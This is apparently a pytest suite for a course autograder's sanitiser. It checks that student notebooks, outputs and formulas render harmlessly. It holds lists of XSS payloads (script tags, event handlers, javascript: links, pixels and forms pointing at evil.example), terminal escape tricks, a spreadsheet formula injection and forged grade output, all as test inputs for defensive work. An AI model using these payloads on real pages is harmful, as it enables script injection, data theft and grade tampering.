"""What a student wrote can do nothing to whoever reads it."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest
from conftest import ROOT

from attention_course.grade import harmless
from attention_course.grade.autograded import make_notebook
from attention_course.grade.contract import Intake, Ran, RunCell
from attention_course.grade.feedback import render
from attention_course.grade.release import Bundle, read_bundle
from attention_course.learn.report import VERDICT_TYPE
from attention_course.learn.verdict import AspectVerdict, Verdict

SCRIPT = "<script>alert(1)</script>"
HOSTILE_HTML = [
    SCRIPT,
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvA&#115;cript:alert(1)'>x</a>",
    "<div style='background:url(https://evil.example)' onclick=alert(1)>x</div>",
    "<form action='https://evil.example'><input name=a><button>x</button></form>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='x.swf'></object><embed src=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video src='https://evil.example/v'><source src=x></video>",
    "<!--><script>alert(1)</script>-->",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
]
HOSTILE_MARKDOWN = [
    *HOSTILE_HTML,
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "![a [b] c](https://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    "`code` <b onmouseover=alert(1)>x</b>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<\nscript>alert(1)</script>",
]


class Watch(HTMLParser):
    """Collects what a browser would run or load."""

    BAD_TAGS = re.compile(
        "script|i?frame(set)?|object|embed|form|input|button|meta|base|link|style|svg|"
        "math|video|audio|source|applet"
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.BAD_TAGS.fullmatch(tag):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            if address.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={address}")
            if name in ("src", "background", "srcset") and not address.startswith(
                "data:image"
            ):
                self.found.append(f"{tag} {name}={address}")
            if name == "style" and "url(" in address:
                self.found.append(f"{tag} {name}={address}")


def watched(html: str) -> list[str]:
    watch = Watch()
    watch.feed(html)
    watch.close()
    return watch.found


@pytest.mark.parametrize("text", HOSTILE_HTML)
def test_html_does_nothing(text: str) -> None:
    assert watched(harmless.html(text)) == []


def test_the_watch_sees_what_it_is_for() -> None:
    quiet = [t for t in HOSTILE_HTML if not watched(t)]
    assert quiet == ["<!--><script>alert(1)</script>-->"] or not quiet


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_does_nothing_once_rendered(text: str) -> None:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    assert watched(markdown2html_mistune(harmless.markdown(text))) == []


def test_honest_words_stay_as_they_are() -> None:
    table = "<table><tr><th>a</th><td class='x'>1</td></tr></table>"
    assert "<td" in harmless.html(table)
    honest = (
        "The data: $a < b$, **bold**, `x = [1]`, [link](https://pytorch.org)\n\n> hm"
    )
    assert harmless.markdown(honest) == honest
    assert harmless.text("größer → 3\n\tx") == "größer → 3\n\tx"
    assert harmless.text("\x1b[31mred\x1b[0m") == "\x1b[31mred\x1b[0m"


@pytest.mark.parametrize(
    "trick",
    [
        "\x1b]0;title\x07",
        "\x1b[2J",
        "\x1b[1;1H",
        "\x1b]8;;https://evil.example\x1b\\",
        "\x9b2J",
        "\x00\x08\x7f",
        "\ufeff",
        "\x1bc",
    ],
)
def test_terminal_tricks_are_gone(trick: str) -> None:
    cleaned = harmless.text(f"before{trick}after")
    assert cleaned == "beforeafter"


def test_turned_directions_are_named() -> None:
    assert harmless.text("a\u202eb") == "a<RIGHT-TO-LEFT OVERRIDE>b"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_of_a_table_is_no_formula(start: str) -> None:
    assert harmless.cell_text(f"{start}cmd|'/c calc'!A0").startswith("'")
    assert harmless.cell_text("amara") == "amara"


@pytest.fixture(scope="module")
def bundle() -> Bundle:
    return read_bundle(ROOT, ROOT / "chapters" / "04_scaling")


def verdicts(bundle: Bundle, message: str = "") -> dict[str, Verdict]:
    return {
        name: Verdict(
            name,
            points,
            0.0,
            "wrong",
            (AspectVerdict("values", points, 0.0, None, message),),
        )
        for name, points in bundle.points.items()
    }


def display(kind: str, value: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {kind: value}, "metadata": {}}


def test_a_whole_hostile_notebook_gives_a_harmless_page(bundle: Bundle) -> None:
    ran = Ran()
    cells = []
    for number, text in enumerate(HOSTILE_MARKDOWN):
        cells.append(RunCell(f"m{number}", "markdown", text))
        cells.append(RunCell(f"c{number}", "student", f"x = {text!r}"))
        ran.outputs[f"c{number}"] = [
            display("text/html", text),
            display("text/markdown", text),
            display("image/svg+xml", "<svg onload=alert(1)>"),
            display("application/javascript", "alert(1)"),
            display("text/latex", r"$\href{javascript:alert(1)}{x}$"),
            display("image/png", '"><script>alert(1)</script>'),
            {"output_type": "stream", "name": "stdout", "text": text},
            {
                "output_type": "error",
                "ename": text,
                "evalue": text,
                "traceback": [text],
            },
        ]
    checks = [
        RunCell(c.id, "check", c.source, c.exercise)
        for c in bundle.cells
        if c.role == "check"
    ]
    intake = Intake((*cells, *checks), (f"repaired {SCRIPT}",))
    data = make_notebook(bundle, intake, ran, verdicts(bundle, SCRIPT), [SCRIPT])
    nbformat.validate(nbformat.reads(data.decode(), as_version=4))
    shown = {"score": 0, "max_score": 15, "late_penalty": 0, "grades": {}}
    page = render(data, bundle.chapter, {**shown, "comments": {}}).decode()
    plain = make_notebook(bundle, Intake(tuple(checks)), Ran(), verdicts(bundle))
    before = render(plain, bundle.chapter, {**shown, "comments": {}}).decode()
    own = watched(before)  # the template's own scripts and styles
    assert sorted(watched(page)) == sorted(own)


def test_a_forged_verdict_in_a_students_output_is_dropped(bundle: Bundle) -> None:
    cell = RunCell("own-1", "student", "display(...)")
    forged = display(VERDICT_TYPE, {"name": "score_gradient", "earned": 4})
    forged["data"]["text/plain"] = "4 of 4 points"
    check = next(c for c in bundle.cells if c.role == "check")
    intake = Intake((cell, RunCell(check.id, "check", check.source, check.exercise)))
    ran = Ran(outputs={"own-1": [forged], check.id: [forged]})
    made = json.loads(make_notebook(bundle, intake, ran, verdicts(bundle)))
    own, checked = made["cells"]
    assert VERDICT_TYPE not in own["outputs"][0]["data"]
    assert checked["outputs"][0]["data"][VERDICT_TYPE]["earned"] == 0.0
    assert checked["outputs"][1]["data"]["text/plain"] == "0.0"


def test_html_cannot_use_the_pages_own_style() -> None:
    shown = harmless.html(
        '<div class="modal in show" id="x" style="top:0">15 / 15</div>'
    )
    assert shown == "<div>15 / 15</div>"


def test_html_that_is_nested_too_deeply_is_not_read() -> None:
    assert "<div>" not in harmless.html("<div>" * 200_000)
    table = "<table>" + "<tr><td>1</td></tr>" * 1000 + "</table>"
    assert harmless.html(table).count("<td>") == 1000


@pytest.mark.parametrize(
    "tex",
    [
        r"$\raise 300px{x}$",
        r"$\rlap{\bbox[white]{x}}$",
        r"$\let\up\raise \up 3px{x}$",
        r"$\csname raise\endcsname 3px{x}$",
        r"$\newcommand{\up}{\raise} \up 3px{x}$",
        r"$\hskip-300px x$",
    ],
)
def test_a_formula_stays_in_its_place(tex: str) -> None:
    for shown in (harmless.formula(tex), harmless.markdown(tex)):
        assert not re.search(r"\\(raise|rlap|bbox|let|csname|newcommand|hskip)", shown)


def test_ordinary_formulas_are_left_alone() -> None:
    tex = r"$\left( \frac{q k^\top}{\sqrt{d_k}} \right) \letter \defined \lowercase$"
    assert harmless.formula(tex) == tex


def test_accents_that_reach_into_other_lines_are_cut() -> None:
    assert harmless.text("e" + "\u0301" * 3000) == "e" + "\u0301" * 4
    assert harmless.text("Nguyễn, क्षि, ũ̂") == "Nguyễn, क्षि, ũ̂"


def test_a_diagram_is_shown_as_text() -> None:
    assert "mermaid" not in harmless.markdown("> ```mermaid\n> graph TD\n> ```")


@pytest.mark.parametrize("alt", ["a", "a[b]c", "x" * 5000, "[" * 50, ""])
def test_an_image_from_elsewhere_is_none_whatever_it_is_called(alt: str) -> None:
    assert "![" not in harmless.markdown(f"![{alt}](https://example.org/x.png)")


def test_an_attachment_stays_an_image() -> None:
    shown = harmless.markdown("![a [plot]](attachment:plot.png)")
    assert shown == "![a [plot]](attachment:plot.png)"


READ = """
from attention_course.grade import harmless, intake, shortcuts
from attention_course.grade.contract import RunCell

for text in (
    "x = (\\n" + "\\n" * 900_000 + "x",
    "x = ( " + "import " * 140_000,
    "![" * 500_000,
    "<div>" * 200_000,
    ("a" * 1000 + " " * 1000 + "\\n") * 450,
):
    cell = RunCell("a", "answer", text)
    intake._tree(text)
    intake._defined(text)
    shortcuts.find_shortcuts([cell], ["torch.nn.functional.softmax"])
    shortcuts.find_course_code([cell], [], ["softmax"])
    shortcuts.find_tricks([cell])
    harmless.markdown(text)
    harmless.html(text)
"""


def test_nothing_that_reads_a_students_text_hangs_on_it() -> None:
    """It takes seconds; a reader of quadratic cost would take hours."""
    subprocess.run([sys.executable, "-c", READ], check=True, timeout=300)
